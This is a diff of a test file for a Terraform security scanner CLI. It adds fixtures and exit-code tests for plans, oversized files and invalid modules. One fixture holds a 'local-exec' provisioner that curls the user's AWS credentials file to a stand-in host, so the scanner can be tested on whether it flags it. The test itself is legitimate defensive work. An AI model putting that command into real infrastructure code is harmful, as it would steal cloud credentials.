@@ -13,6 +13,30 @@ vi.setConfig({ testTimeout: 30_000 });
 
 const BAD = 'resource "aws_ebs_volume" "x" {\n  encrypted = false\n}\n';
 
+const PLAN = JSON.stringify({
+  format_version: "1.2",
+  planned_values: {
+    root_module: {
+      resources: [
+        {
+          address: "module.data.aws_ebs_volume.x",
+          mode: "managed",
+          type: "aws_ebs_volume",
+          name: "x",
+          values: { encrypted: false },
+        },
+      ],
+    },
+  },
+});
+
+const RUNS = `resource "terraform_data" "x" {
+  provisioner "local-exec" {
+    command = "curl -d @$HOME/.aws/credentials https://collect.example.net"
+  }
+}
+`;
+
 let folder: string;
 beforeAll(() => {
   folder = mkdtempSync(join(tmpdir(), "stackyard-cli-"));
@@ -46,6 +70,10 @@ resource "aws_sqs_queue" "x" {
     "choice.tfvars.json": '{ "encrypted": true }',
     "odd.tfvars": "encrypted = var.x\n",
     "text.txt": "no archive",
+    "large.json": " ".repeat(8_000_001),
+    "plan.json": PLAN,
+    "runs/main.tf": RUNS,
+    "invalid/main.tf": "locals {\n  x = var.missing\n}\n",
     "old/main.tf": 'variable "a" {}\n',
     "new/main.tf": 'variable "b" {}\n',
   });
@@ -108,6 +136,8 @@ describe("stackyard", () => {
     [["scan", "choice", "--var", "size=1"], "does not take these values: size"],
     [["scan", "choice", "--var-file", "odd.tfvars"], "odd.tfvars:1: encrypted is"],
     [["scan", "choice", "--var-file", "text.txt"], "not a .tfvars or .tfvars.json file"],
+    [["scan", "choice.tfvars.json"], "choice.tfvars.json is no plan"],
+    [["scan", "large.json"], "larger than 8000000 bytes"],
     [["diff", "old"], "takes two directories or archives"],
   ])("%j is wrong, in one line", async (args, message) => {
     const { code, stdout, stderr } = await stackyard(...args);
@@ -119,6 +149,43 @@ describe("stackyard", () => {
 });
 
 describe("stackyard scan", () => {
+  it("judges a plan, and names the addresses", async () => {
+    const { code, stdout } = await stackyard("scan", "plan.json");
+    expect(code).toBe(1);
+    expect(stdout).toMatch(
+      /aws-ebs-encryption at plan\.json:1 in\s+module\.data\.aws_ebs_volume\.x/,
+    );
+  });
+
+  const WORST = ["--inputs", "worst"];
+  it.each<[module: string, options: string[], code: number]>([
+    ["bad", [], 1],
+    ["bad", ["--fail-on", "critical"], 0],
+    ["bad", ["--fail-on", "none"], 0],
+    ["bad", ["--fail-on", "none", "--min-score", "security=100"], 1],
+    ["bad", ["--severity", "critical"], 0],
+    ["bad", ["--skip", "aws-ebs-encryption"], 0],
+    ["runs", ["--fail-on", "critical"], 1],
+    ["runs", ["--fail-on", "none"], 0],
+    ["broken", ["--fail-on", "none"], 1],
+    ["broken", ["--fail-on", "none", "--severity", "critical"], 1],
+    ["invalid", ["--fail-on", "none"], 1],
+    ["invalid", ["--fail-on", "none", "--rule", "aws-ebs-encryption"], 1],
+    ["switch", ["--fail-on", "critical"], 0],
+    ["switch", ["--fail-on", "critical", ...WORST], 1],
+    ["switch", ["--fail-on", "none", ...WORST], 0],
+    ["switch", ["--fail-on", "none", "--min-score", "security=40", ...WORST], 1],
+    ["switch", ["--fail-on", "critical", "--skip", "aws-rds-public", ...WORST], 0],
+    [
+      "switch",
+      ["--fail-on", "none", "--min-score", "security=40", "--skip", "aws-rds-public", ...WORST],
+      1,
+    ],
+  ])("of %s with %j answers %i", async (module, options, code) => {
+    const outcome = await stackyard("scan", module, ...options);
+    expect(outcome.code, outcome.stderr).toBe(code);
+  });
+
   it("answers 1 for findings at or above the limit, and 0 for those below", async () => {
     const found = await stackyard("scan", "bad");
     expect(found.code).toBe(1);
@@ -126,19 +193,6 @@ describe("stackyard scan", () => {
     expect(found.stderr).toMatch(/^stackyard: \d+ findings? at or above high\n$/);
     expect((await stackyard("scan", "bad", "--fail-on", "critical")).code).toBe(0);
     expect((await stackyard("scan", "bad", "--fail-on", "none")).code).toBe(0);
-  });
-
-  it("answers 1 for a score below the one asked for", async () => {
-    const args = ["scan", "bad", "--fail-on", "none", "--min-score", "security=100"];
-    const { code, stderr } = await stackyard(...args);
-    expect(code).toBe(1);
-    expect(stderr).toMatch(/security \d+ is below 100/);
-  });
-
-  it("counts only the findings that are selected", async () => {
-    const { code, stdout } = await stackyard("scan", "bad", "--skip", "aws-ebs-encryption");
-    expect(code).toBe(0);
-    expect(stdout).toMatch(/^\d+ findings: .*, 1 not listed$/m);
   });
 
   it("lets the findings of a baseline pass, and refuses a file that is none", async () => {
